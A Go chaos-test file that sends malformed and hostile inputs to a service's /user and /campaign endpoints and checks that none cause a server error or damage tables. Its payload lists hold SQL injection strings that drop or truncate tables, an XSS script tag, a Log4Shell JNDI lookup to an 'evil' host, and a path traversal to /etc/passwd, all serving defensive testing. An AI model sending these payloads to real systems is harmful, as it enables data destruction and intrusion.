//go:build chaos

package chaos

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func doJSON(t *testing.T, method, path string, body []byte, contentType string) *http.Response {
	t.Helper()
	app := newTestApp()
	req := httptest.NewRequest(method, path, bytes.NewReader(body))
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	resp, err := app.Test(req, -1)
	require.NoError(t, err)
	return resp
}

// TestSQLInjectionInPhone verifies injection payloads in the phone field are
// treated as inert data, never executed, and never corrupt the schema.
func TestSQLInjectionInPhone(t *testing.T) {
	cleanupTables(t)

	payloads := []string{
		`'; DROP TABLE users;--`,
		`' OR '1'='1`,
		`1' UNION SELECT * FROM users--`,
		`'; DROP TABLE campaigns;--`,
		`admin'--`,
		`' OR 1=1--`,
		`'; TRUNCATE TABLE users CASCADE;--`,
		`\\'; DROP TABLE users;--`,
		`" OR ""="`,
		`'; SELECT pg_sleep(5);--`,
	}

	for _, payload := range payloads {
		t.Run(payload, func(t *testing.T) {
			body := []byte(`{"phone":` + strconv.Quote(payload) + `}`)
			resp := doJSON(t, http.MethodPost, "/user", body, "application/json")
			defer resp.Body.Close()
			assert.NotEqual(t, http.StatusInternalServerError, resp.StatusCode)
		})
	}

	verifyTablesExist(t)
}

// TestSpecialCharacterPayloads verifies unicode, control, and other
// non-ASCII payloads are accepted or rejected cleanly, never crashing the
// handler or leaking a raw database error.
func TestSpecialCharacterPayloads(t *testing.T) {
	cleanupTables(t)

	payloads := []string{
		"\x00",
		"💩💩💩",
		"中文电话号码",
		"رقم الهاتف",
		"\t\n\r",
		strings.Repeat("a", 0),
		"<script>alert(1)</script>",
		"${jndi:ldap://evil/a}",
		"../../../etc/passwd",
		"%00%00%00",
		"\xef\xbb\xbf+15551234567",
		"NULL",
		"undefined",
		"true",
		"[]",
		"{}",
		strings.Repeat("́", 50),
		"+15551234567\x00extra",
	}

	for i, payload := range payloads {
		t.Run(strconv.Itoa(i), func(t *testing.T) {
			body := []byte(`{"phone":` + strconv.Quote(payload) + `}`)
			resp := doJSON(t, http.MethodPost, "/user", body, "application/json")
			defer resp.Body.Close()
			assert.NotEqual(t, http.StatusInternalServerError, resp.StatusCode)
		})
	}

	verifyTablesExist(t)
}

// TestMalformedJSONBodies verifies truncated or structurally invalid JSON
// bodies never produce a 500.
func TestMalformedJSONBodies(t *testing.T) {
	cleanupTables(t)

	bodies := []string{
		`{"phone":`,
		`{"phone": "x"`,
		`"phone": "x"}`,
		`{phone: "x"}`,
		`{"phone": "x",}`,
		`[]`,
		`null`,
		`42`,
		`"just a string"`,
		``,
		`{{{{`,
		`{"phone": "x"} trailing garbage`,
		`{"phone": tru}`,
	}

	for i, body := range bodies {
		t.Run(strconv.Itoa(i), func(t *testing.T) {
			resp := doJSON(t, http.MethodPost, "/user", []byte(body), "application/json")
			defer resp.Body.Close()
			assert.NotEqual(t, http.StatusInternalServerError, resp.StatusCode)
		})
	}
}

// TestWrongContentType verifies a JSON-shaped body sent with a non-JSON
// content type is handled without a panic.
func TestWrongContentType(t *testing.T) {
	cleanupTables(t)

	resp := doJSON(t, http.MethodPost, "/user", []byte(`{"phone":"+15550001111"}`), "text/plain")
	defer resp.Body.Close()
	assert.NotEqual(t, http.StatusInternalServerError, resp.StatusCode)
}

// TestLargePayloads verifies the configured body limit rejects oversized
// requests rather than buffering them into memory unbounded.
func TestLargePayloads(t *testing.T) {
	cleanupTables(t)

	sizes := map[string]int{
		"100KB": 100 * 1024,
		"500KB": 500 * 1024,
		"5MB":   5 * 1024 * 1024,
	}

	for name, size := range sizes {
		t.Run(name, func(t *testing.T) {
			payload := `{"phone":"` + strings.Repeat("a", size) + `"}`
			resp := doJSON(t, http.MethodPost, "/user", []byte(payload), "application/json")
			defer resp.Body.Close()
			if size > 4*1024*1024 {
				assert.Equal(t, http.StatusRequestEntityTooLarge, resp.StatusCode)
			} else {
				assert.NotEqual(t, http.StatusInternalServerError, resp.StatusCode)
			}
		})
	}
}

// TestDeeplyNestedJSON verifies pathologically nested JSON bodies, which
// cannot match any request struct here, are rejected without a 500 rather
// than recursing unbounded.
func TestDeeplyNestedJSON(t *testing.T) {
	cleanupTables(t)

	depths := []int{10, 50, 100}
	for _, depth := range depths {
		t.Run(strconv.Itoa(depth), func(t *testing.T) {
			var b strings.Builder
			b.WriteString(`{"phone":`)
			for i := 0; i < depth; i++ {
				b.WriteString("[")
			}
			b.WriteString(`"x"`)
			for i := 0; i < depth; i++ {
				b.WriteString("]")
			}
			b.WriteString("}")

			resp := doJSON(t, http.MethodPost, "/user", []byte(b.String()), "application/json")
			defer resp.Body.Close()
			assert.NotEqual(t, http.StatusInternalServerError, resp.StatusCode)
		})
	}
}

// TestAmountBoundaryValues verifies campaign probability and quota fields
// reject out-of-range, wrong-typed, and overflowing values.
func TestAmountBoundaryValues(t *testing.T) {
	cleanupTables(t)

	cases := []struct {
		name string
		body string
	}{
		{"negative probability", `{"coupon_types":[{"description":"x","probability":-0.5}]}`},
		{"probability over one", `{"coupon_types":[{"description":"x","probability":1.5}]}`},
		{"probability as string", `{"coupon_types":[{"description":"x","probability":"0.5"}]}`},
		{"probability null", `{"coupon_types":[{"description":"x","probability":null}]}`},
		{"negative quota", `{"coupon_types":[{"description":"x","probability":0.5,"total_quota":-1}]}`},
		{"max int32 quota", `{"coupon_types":[{"description":"x","probability":0.1,"total_quota":2147483647}]}`},
		{"int64 overflow quota", `{"coupon_types":[{"description":"x","probability":0.1,"total_quota":99999999999999999999}]}`},
		{"empty coupon types", `{"coupon_types":[]}`},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			resp := doJSON(t, http.MethodPost, "/campaign", []byte(tc.body), "application/json")
			defer resp.Body.Close()
			assert.NotEqual(t, http.StatusInternalServerError, resp.StatusCode)
		})
	}

	verifyTablesExist(t)
}

// TestLongDescriptionBoundary verifies coupon-type description lengths at
// and around the 255-character validation limit don't error unexpectedly.
func TestLongDescriptionBoundary(t *testing.T) {
	cleanupTables(t)

	lengths := []int{255, 256, 1000, 10000}
	for _, n := range lengths {
		t.Run(strconv.Itoa(n), func(t *testing.T) {
			desc := strings.Repeat("d", n)
			body := []byte(`{"coupon_types":[{"description":"` + desc + `","probability":0.1}]}`)
			resp := doJSON(t, http.MethodPost, "/campaign", body, "application/json")
			defer resp.Body.Close()
			assert.NotEqual(t, http.StatusInternalServerError, resp.StatusCode)
		})
	}
}
